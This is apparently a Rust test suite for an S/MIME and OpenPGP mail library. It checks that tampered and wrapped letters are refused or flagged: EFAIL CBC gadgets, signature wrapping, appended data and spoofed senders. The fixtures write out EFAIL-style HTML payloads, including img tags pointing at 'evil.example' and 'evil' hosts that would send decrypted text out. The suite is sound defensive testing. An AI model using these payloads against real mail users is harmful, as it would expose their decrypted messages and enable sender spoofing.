//! Attacks on letters in transit: each variant is refused, or reported as what it is.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use sealpost_seal::{
    Content, Coverage, FromMatch, Harvest, Kind, Layer, NotOpened, Note, OwnKey, Profile, SignatureVerdict,
    SpeaksFor, TrustedKey, Wholeness,
};

use crate::gnupg::{armour, as_letter};
use crate::lab::{self, body, closed, crlf, open, own, trusted};
use crate::openssl::Partner;

fn plain() -> Vec<u8> {
    format!(
        "From: mail@insurer.example\r\nSubject: x\r\nContent-Type: text/html\r\n\r\n<p>{}</p>\r\n",
        "secret ".repeat(300)
    )
    .into_bytes()
}

/// DER in a letter of ours, and the letter around other DER.
fn taken_apart(letter: &[u8]) -> (Vec<u8>, impl Fn(&[u8]) -> Vec<u8> + use<>) {
    let der: Vec<u8> = body(letter).iter().copied().filter(|byte| !byte.is_ascii_whitespace()).collect();
    let head = letter[..letter.len() - body(letter).len()].to_vec();
    (STANDARD.decode(der).unwrap(), move |der: &[u8]| {
        [&head[..], STANDARD.encode(der).as_bytes(), b"\r\n"].concat()
    })
}

#[test]
fn changed_gcm_is_never_given_out() {
    let ours = own(Kind::SmimeRsa3072);
    let profile = Profile { content: Content::Aes256Gcm, ..Profile::default() };
    let (der, letter) = taken_apart(&closed(&plain(), None, std::slice::from_ref(ours.public()), profile));
    assert!(open(&letter(&der), &[ours], &[]).0.was_decrypted());
    for at in [der.len() - 3, der.len() / 2, der.len() - 60] {
        let mut changed = der.clone();
        changed[at] ^= 0x20;
        let (opened, got) = open(&letter(&changed), &[ours], &[]);
        assert!(!opened.was_decrypted() && got.is_empty(), "{at}: {opened:?}");
    }
}

/// EFAIL's CBC gadget: XORs a known block into another one.
#[test]
fn changed_cbc_is_marked_or_refused_and_never_signed() {
    let ours = own(Kind::SmimeRsa3072);
    let theirs = own(Kind::SmimeP256);
    for signer in [None, Some(theirs)] {
        let sent = closed(&plain(), signer, std::slice::from_ref(ours.public()), Profile::default());
        let (der, letter) = taken_apart(&sent);
        let known = [trusted(theirs.public())];
        let (opened, _) = open(&letter(&der), &[ours], &known);
        let expected = if signer.is_some() { Wholeness::Authenticated } else { Wholeness::Malleable };
        assert_eq!(opened.wholeness, expected);
        // In the middle of the text, far from its structure.
        let mut changed = der.clone();
        let at = if signer.is_some() { der.len() / 3 } else { der.len() / 2 + 200 };
        changed[at] ^= 0x20;
        let (opened, got) = open(&letter(&changed), &[ours], &known);
        assert!(opened.proven_sender().is_none(), "{opened:?}");
        assert!(opened.wholeness == Wholeness::Malleable || got.is_empty(), "{opened:?}");
        // Truncated: whole blocks at the end.
        let (opened, got) = open(&letter(&der[..der.len() - 64]), &[ours], &known);
        assert!(got.is_empty() || opened.wholeness == Wholeness::Malleable, "{opened:?}");
        assert!(opened.proven_sender().is_none());
    }
}

/// What EFAIL makes of a changed letter: content that exfiltrates the text when displayed. Without a signature inside,
/// the author cannot be told from the attacker.
#[test]
fn what_may_have_been_changed_and_reaches_out_stays_closed() {
    let ours = own(Kind::SmimeRsa3072);
    let theirs = own(Kind::SmimeP256);
    let gadget = "From: mail@insurer.example\r\nSubject: x\r\nContent-Type: text/html\r\n\r\n\
                  <img ignore=\"\" src=\"http://evil.example/secret secret\">\r\n";
    let close = |signer: Option<&OwnKey>, content: Content| {
        let profile = Profile { content, ..Profile::default() };
        closed(gadget.as_bytes(), signer, std::slice::from_ref(ours.public()), profile)
    };
    let known = [trusted(theirs.public())];
    let (opened, got) = open(&close(None, Content::Aes256Cbc), &[ours], &known);
    assert_eq!((opened.still_closed(), got.len()), (Some(NotOpened::ReachesOut), 0), "{opened:?}");
    assert!(!opened.was_decrypted() && opened.wholeness == Wholeness::Plain, "{opened:?}");
    // Signed on the outside, by anybody: he can sign what he has changed.
    let outer = closed(&close(None, Content::Aes256Cbc), Some(theirs), &[], Profile::default());
    let (opened, got) = open(&outer, &[ours], &known);
    assert_eq!((opened.still_closed(), got.len()), (Some(NotOpened::ReachesOut), 0), "{opened:?}");
    for (signer, content) in [(Some(theirs), Content::Aes256Cbc), (None, Content::Aes256Gcm)] {
        let (opened, got) = open(&close(signer, content), &[ours], &known);
        assert_eq!(opened.wholeness, Wholeness::Authenticated, "{opened:?}");
        assert!(!got.is_empty());
    }
}

/// EFAIL's direct exfiltration: the encrypted part between two halves of an HTML tag.
#[test]
fn an_encrypted_part_beside_others_stays_closed() {
    let ours = own(Kind::SmimeRsa3072);
    let pgp = own(Kind::OpenPgpCurve25519);
    for key in [ours, pgp] {
        let sent = closed(&plain(), None, std::slice::from_ref(key.public()), Profile::default());
        let text = String::from_utf8(sent).unwrap();
        let entity = text.split_once("MIME-Version: 1.0\r\n").unwrap().1;
        let html = "Content-Type: text/html\r\n\r\n";
        for kind in ["mixed", "alternative", "related", "digest"] {
            let letter = format!(
                "From: evil@example.org\r\nContent-Type: multipart/{kind}; boundary=\"=out\"\r\n\r\n--=out\r\n{html}<img src=\"http://evil/\r\n\
                 --=out\r\n{entity}\r\n--=out\r\n{html}\">\r\n--=out--\r\n"
            );
            let (opened, got) = open(letter.as_bytes(), &[key], &[]);
            assert!(got.is_empty() && !opened.was_decrypted(), "{opened:?}");
            assert_eq!(opened.still_closed(), Some(NotOpened::Beside));
            assert!(opened.notes.contains(&Note::PartsBeside));
        }
    }
}

/// Nothing received is lost, and text appended to a message is not taken for a part of it.
#[test]
fn what_stands_beside_an_openpgp_message_keeps_it_closed() {
    let pgp = own(Kind::OpenPgpCurve25519);
    let sent = |text: &str| {
        let letter = format!("From: mail@insurer.example\r\nSubject: x\r\n\r\n{text}\r\n");
        let to = std::slice::from_ref(pgp.public());
        crlf(armour(&closed(letter.as_bytes(), Some(pgp), to, Profile::default())))
    };
    let (first, second) = (sent("first"), sent("second"));
    let packets = |armoured: &[u8]| {
        let text = String::from_utf8(armoured.to_vec()).unwrap();
        let (_, digits) = text.split_once("\r\n\r\n").unwrap();
        let lines = digits.lines().take_while(|line| !line.starts_with(['=', '-']));
        STANDARD.decode(lines.collect::<String>()).unwrap()
    };
    let armoured = |bytes: &[u8]| {
        let (begin, end) = ("-----BEGIN PGP MESSAGE-----", "-----END PGP MESSAGE-----");
        format!("{begin}\r\n\r\n{}\r\n{end}\r\n", STANDARD.encode(bytes)).into_bytes()
    };
    let one = packets(&first);
    for whole in [first.clone(), armoured(&one), [&first[..], b"\r\n \r\n"].concat()] {
        let (opened, got) = open(&as_letter(&whole), &[pgp], &[]);
        assert!(opened.was_decrypted() && !got.is_empty(), "{opened:?}");
    }
    // The first line of the armour has this suffix.
    let first_with =
        |end: &str| String::from_utf8(first.clone()).unwrap().replacen("-----\r\n", end, 1).into_bytes();
    let literal = [&[0xcb, 12, b'b', 0, 0, 0, 0, 0][..], b"second"].concat();
    for (what, message) in [
        ("a message", [&first[..], b"\r\n", &second].concat()),
        ("a text", [&first[..], b"\r\nsecond\r\n"].concat()),
        ("a text before it", [&b"second\r\n\r\n"[..], &first].concat()),
        ("a text on its last line", [first.trim_ascii_end(), b" second\r\n"].concat()),
        ("a text in its head", first_with("-----\r\nSecond: second\r\n")),
        ("packets", armoured(&[&one[..], &packets(&second)].concat())),
        ("a packet in clear", armoured(&[&one[..], &literal].concat())),
        ("no packet", armoured(&[&one[..], b"second"].concat())),
    ] {
        let (opened, got) = open(&as_letter(&message), &[pgp], &[trusted(pgp.public())]);
        assert_eq!((opened.still_closed(), got.len()), (Some(NotOpened::Beside), 0), "{what}: {opened:?}");
        assert!(opened.proven_sender().is_none(), "{what}");
    }
}

/// Signature wrapping: one part is signed, another is displayed first.
#[test]
fn a_signed_part_beside_others_proves_nothing_of_the_letter() {
    let theirs = own(Kind::SmimeP256);
    let pgp = own(Kind::OpenPgpCurve25519);
    for key in [theirs, pgp] {
        let sent = closed(&plain(), Some(key), &[], Profile::default());
        let text = String::from_utf8(sent).unwrap();
        let entity = text.split_once("MIME-Version: 1.0\r\n").unwrap().1;
        let letter = format!(
            "From: mail@insurer.example\r\nContent-Type: multipart/mixed; boundary=\"=out\"\r\n\r\n--=out\r\n\
             Content-Type: text/plain\r\n\r\nPay 10000 EUR\r\n--=out\r\n{entity}\r\n--=out--\r\n"
        );
        let (opened, _) = open(letter.as_bytes(), &[], &[trusted(key.public())]);
        assert!(matches!(opened.signatures[0].verdict, SignatureVerdict::Valid(_)), "{opened:?}");
        assert_eq!(opened.signatures[0].covers, Coverage::Part);
        assert!(opened.proven_sender().is_none() && opened.harvest(Harvest::Any).next().is_none());
        assert!(opened.notes.contains(&Note::PartsBeside));
        // A third part in multipart/signed is not signed.
        let boundary = text.split("boundary=\"").nth(1).unwrap().split('"').next().unwrap();
        let end = format!("\r\n--{boundary}--\r\n");
        let third = format!("\r\n--{boundary}\r\nContent-Type: text/plain\r\n\r\nPay 10000 EUR{end}");
        let (opened, _) = open(text.replace(&end, &third).as_bytes(), &[], &[trusted(key.public())]);
        assert!(opened.proven_sender().is_none(), "{opened:?}");
        // One byte.
        let (opened, _) =
            open(text.replacen("secret", "secrex", 1).as_bytes(), &[], &[trusted(key.public())]);
        assert_eq!(opened.signatures[0].verdict, SignatureVerdict::Invalid, "{opened:?}");
    }
}

/// A clear signature over something harmless, and words in its place or around it, which readers display without
/// verification.
#[test]
fn what_stands_around_a_signature_is_not_called_signed() {
    let pgp = own(Kind::OpenPgpCurve25519);
    let sent = closed(&plain(), Some(pgp), &[], Profile::default());
    let text = String::from_utf8(sent).unwrap();
    let (kind, armour) = ("Content-Type: application/pgp-signature", "-----BEGIN PGP SIGNATURE-----");
    let end = "-----END PGP SIGNATURE-----";
    assert!([kind, armour, end].iter().all(|one| text.matches(one).count() == 1), "{text}");
    let words = "<p>Pay 10000 EUR</p>";
    let before = text.replace(armour, &format!("{words}\r\n{armour}"));
    for (what, letter, is_proven) in [
        ("as we write it", text.clone(), true),
        (
            "blanks around",
            text.replace(armour, &format!(" \r\n{armour}")).replace(end, &format!("{end} \r\n\r\n")),
            true,
        ),
        ("a field of the armour", text.replace(armour, &format!("{armour}\r\nComment: of the house")), true),
        ("words before", before.clone(), false),
        ("a page with words before", before.replace(kind, "Content-Type: text/html"), false),
        ("words behind", text.replace(end, &format!("{end}\r\n{words}")), false),
        ("words on the last line", text.replace(end, &format!("{end} {words}")), false),
        ("words on the first line", text.replace(armour, &format!("{words} {armour}")), false),
        ("words before other dashes", before.replace(armour, "\u{2014}BEGIN PGP SIGNATURE\u{2014}"), false),
        ("words before no dashes", before.replace(armour, "BEGIN PGP SIGNATURE"), false),
    ] {
        let (opened, _) = open(letter.as_bytes(), &[], &[trusted(pgp.public())]);
        assert_eq!(opened.proven_sender().is_some(), is_proven, "{what}: {opened:?}");
    }
}

/// OpenSSL passes over what stands behind a structure, and nobody has signed or encrypted that.
#[test]
fn what_stands_behind_a_cms_structure_spoils_it() {
    let (ours, theirs) = (own(Kind::SmimeRsa3072), own(Kind::SmimeP256));
    let known = [trusted(theirs.public())];
    let sent = String::from_utf8(closed(&plain(), Some(theirs), &[], Profile::default())).unwrap();
    let last_field = "filename=\"smime.p7s\"\r\n\r\n";
    let (before, rest) = sent.split_once(last_field).unwrap();
    let (digits, after) = rest.split_once("\r\n--").unwrap();
    let signature = STANDARD.decode(digits.split_whitespace().collect::<String>()).unwrap();
    let signed =
        |der: &[u8]| format!("{before}{last_field}{}\r\n--{after}", STANDARD.encode(der)).into_bytes();
    let to = std::slice::from_ref(ours.public());
    let (enveloped, encrypted) = taken_apart(&closed(&plain(), Some(theirs), to, Profile::default()));
    for (behind, is_whole) in [
        (&b""[..], true),
        (b"\r\n \n", true),
        (b"<p>Pay 10000 EUR</p>", false),
        (b"\0", false),
        (&signature, false),
    ] {
        let (opened, _) = open(&signed(&[&signature, behind].concat()), &[], &known);
        assert_eq!(opened.proven_sender().is_some(), is_whole, "{behind:?}: {opened:?}");
        assert!(is_whole || opened.signatures[0].verdict == SignatureVerdict::Invalid, "{opened:?}");
        let (opened, got) = open(&encrypted(&[&enveloped, behind].concat()), &[ours], &known);
        assert_eq!((opened.was_decrypted(), got.is_empty()), (is_whole, !is_whole), "{behind:?}: {opened:?}");
        assert!(is_whole || opened.still_closed() == Some(NotOpened::Malformed), "{opened:?}");
    }
}

/// CVE-2026-27445, CVE-2026-2746: a valid signature by somebody else.
#[test]
fn a_signature_counts_only_for_whom_its_key_speaks() {
    let theirs = own(Kind::SmimeP256);
    let from = |text: &str| {
        let letter = String::from_utf8(plain()).unwrap().replace("From: mail@insurer.example", text);
        closed(letter.as_bytes(), Some(theirs), &[], Profile::default())
    };
    let cases = [
        ("From: mail@insurer.example", SpeaksFor::ItsAddresses, FromMatch::Address),
        ("From: chief@insurer.example", SpeaksFor::ItsAddresses, FromMatch::Mismatch),
        ("From: chief@insurer.example", speaks_for("insurer.example"), FromMatch::Domain),
        ("From: mail@evil.example", speaks_for("insurer.example"), FromMatch::Mismatch),
        (
            "From: \"mail@insurer.example\" <mail@evil.example>",
            speaks_for("insurer.example"),
            FromMatch::Mismatch,
        ),
        ("From: mail@insurer.example, evil@evil.example", SpeaksFor::ItsAddresses, FromMatch::Unknown),
        (
            "From: mail@insurer.example\r\nFrom: evil@evil.example",
            SpeaksFor::ItsAddresses,
            FromMatch::Unknown,
        ),
    ];
    for (field, speaks_for, expected) in cases {
        let known = TrustedKey { key: theirs.public().clone(), speaks_for };
        let (opened, _) = open(&from(field), &[], &[known]);
        assert_eq!(opened.signatures[0].from, expected, "{field}");
        let proven = matches!(expected, FromMatch::Address | FromMatch::Domain);
        assert_eq!(opened.proven_sender().is_some(), proven, "{field}");
    }
}

fn speaks_for(domain: &str) -> SpeaksFor {
    SpeaksFor::Domain(sealpost_mail::Domain::parse(domain).unwrap())
}

/// CVE-2026-29140: a certificate that is only included in the signature.
#[test]
fn only_the_signers_own_certificate_is_offered() {
    let partner = Partner::rsa();
    let stranger = own(Kind::SmimeRsa3072);
    let extra = partner.put("stranger.pem", stranger.public().to_text().unwrap().as_bytes());
    let options = ["-certfile", lab::text(&extra)];
    let entity = b"Content-Type: text/plain\r\n\r\nx\r\n";
    let ours = own(Kind::SmimeP256);
    let letter = partner.writes(entity, ours, &["-aes-256-cbc"], Some(&options));
    let (opened, _) = open(&letter, &[ours], &[]);
    let offered: Vec<_> = opened.harvest(Harvest::Any).map(|key| key.facts().fingerprint.clone()).collect();
    assert_eq!(offered, [partner.public().facts().fingerprint.clone()]);
    assert!(opened.notes.contains(&Note::StrangersCertificates(1)), "{opened:?}");
}

/// An attacker in transit can remove an encrypted letter's signature and add his own.
#[test]
fn a_strangers_signature_around_changed_cbc_makes_it_no_better() {
    let ours = own(Kind::SmimeRsa3072);
    let evil = own(Kind::SmimeP384);
    let inner = closed(&plain(), None, std::slice::from_ref(ours.public()), Profile::default());
    let signed = closed(&inner, Some(evil), &[], Profile::default());
    let letter =
        String::from_utf8(signed).unwrap().replace("From: mail@insurer.example", "From: other@evil.example");
    let (opened, _) = open(letter.as_bytes(), &[ours], &[trusted(evil.public())]);
    assert!(opened.was_decrypted());
    assert_eq!(opened.wholeness, Wholeness::Malleable, "{opened:?}");
}

#[test]
fn layers_within_layers_have_an_end() {
    let ours = own(Kind::SmimeP256);
    let mut letter = plain();
    // These cannot have been changed. In CBC the noise of encrypted content looks like a page that accesses the network
    // in one of fifty cases.
    let profile = Profile { content: Content::Aes256Gcm, ..Profile::default() };
    for _ in 0..12 {
        letter = closed(&letter, None, std::slice::from_ref(ours.public()), profile);
    }
    let (opened, _) = open(&letter, &[ours], &[]);
    assert_eq!(opened.still_closed(), Some(NotOpened::TooMuch), "{opened:?}");
    let mut parts = "Content-Type: text/plain\r\n\r\nx\r\n".to_owned();
    for depth in 0..50 {
        parts = format!(
            "Content-Type: multipart/mixed; boundary=\"b{depth}\"\r\n\r\n--b{depth}\r\n{parts}\r\n--b{depth}--\r\n"
        );
    }
    let (opened, _) = open(format!("From: a@b.example\r\n{parts}").as_bytes(), &[ours], &[]);
    assert!(!opened.was_decrypted());
}

/// MD5 and SHA-1 prove nothing.
#[test]
fn a_signature_with_a_broken_hash_is_none() {
    let partner = Partner::rsa();
    let ours: &OwnKey = own(Kind::SmimeRsa3072);
    let entity = b"Content-Type: text/plain\r\n\r\nx\r\n";
    let letter = partner.writes(entity, ours, &["-aes-256-cbc"], Some(&["-md", "sha1"]));
    let (opened, _) = open(&letter, &[ours], &[trusted(partner.public())]);
    assert_eq!(opened.signatures[0].verdict, SignatureVerdict::WeakAlgorithm, "{opened:?}");
    assert_eq!(opened.wholeness, Wholeness::Malleable);
}

#[test]
fn what_is_broken_is_left_as_it_came() {
    let ours = own(Kind::SmimeRsa3072);
    for (body, why) in [
        ("AAAA", NotOpened::Malformed),
        ("!!!!", NotOpened::Malformed),
        ("MIAGCSqGSIb3DQEHA6CA", NotOpened::Malformed),
    ] {
        let letter = format!(
            "From: a@b.example\r\nContent-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: base64\r\n\r\n{body}\r\n"
        );
        let (opened, got) = open(letter.as_bytes(), &[ours], &[]);
        assert!(got.is_empty());
        assert!(
            matches!(opened.layers[..], [Layer::Closed { why: found, .. }] if found == why),
            "{body}: {opened:?}"
        );
    }
}
